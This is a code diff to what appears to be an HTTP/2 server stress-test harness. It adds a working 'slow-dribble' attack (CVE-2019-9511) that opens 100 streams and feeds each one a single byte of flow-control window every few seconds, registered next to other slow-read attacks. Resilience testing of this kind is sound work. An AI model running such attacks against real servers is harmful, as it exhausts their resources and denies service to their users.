@@ -2,11 +2,13 @@
 
 import time
 
-from hyperframe.frame import SettingsFrame
+from hyperframe.frame import SettingsFrame, WindowUpdateFrame
 
 from peer import Peer, request
 
 STREAMS = 100
+# Seconds between two bytes of window.
+DRIBBLE = 5
 UNKNOWN = 0xBB
 
 
@@ -23,6 +25,17 @@ def zero_window(target, pace):
         peer.open(request(b"/attack/1m"))
     every = lambda: peer.over or len(peer.resets.keys() | peer.ended) >= STREAMS
     peer.pump(pace.left(), until=every)
+    return rest(peer, pace)
+
+
+def dribble(target, pace):
+    """The same, each of which is given a byte of window now and then (CVE-2019-9511)."""
+    peer = Peer(target, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1})
+    streams = [peer.open(request(b"/attack/1m")) for _ in range(STREAMS)]
+    left = lambda: [stream for stream in streams if stream not in peer.resets and stream not in peer.ended]
+    while pace.left() and left() and not peer.over:
+        peer.pump(min(DRIBBLE, pace.left()), until=lambda: peer.over or not left())
+        peer.send(*(WindowUpdateFrame(stream, window_increment=1) for stream in left()))
     return rest(peer, pace)
 
 
@@ -49,4 +62,9 @@ def half_head(target, pace):
     return peer
 
 
-ATTACKS = {"slow-zero-window": zero_window, "slow-unread": unread, "slow-half-head": half_head}
+ATTACKS = {
+    "slow-zero-window": zero_window,
+    "slow-dribble": dribble,
+    "slow-unread": unread,
+    "slow-half-head": half_head,
+}
